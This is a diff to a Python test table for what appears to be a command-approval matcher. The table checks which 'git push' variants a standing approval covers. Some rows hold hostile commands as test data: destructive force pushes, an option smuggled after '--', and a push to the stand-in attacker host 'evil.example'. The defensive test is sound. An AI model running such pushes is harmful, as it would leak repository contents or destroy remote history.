@@ -293,7 +293,8 @@ def _approval(pattern: str, max_risk: str = "system") -> StandingApproval:
     ("git push", "git push -u origin feature", True),
     ("git push", "git push --force-w origin main", False),
     ("git push --force", "git push --forc origin main", False),
-    ("git push --force-w", "git push --force-w origin main", True),
+    ("git push --no-verif", "git push --no-verif origin main", True),
+    ("git push --force-w", "git push --force-w origin main", False),  # --force-with-lease: destructive, never covered
     ("git push", "git push origin main~5", False),
     ("git push", "git push https://evil.example/x main", False),
     ("git push", "git push origin -- --force", False),
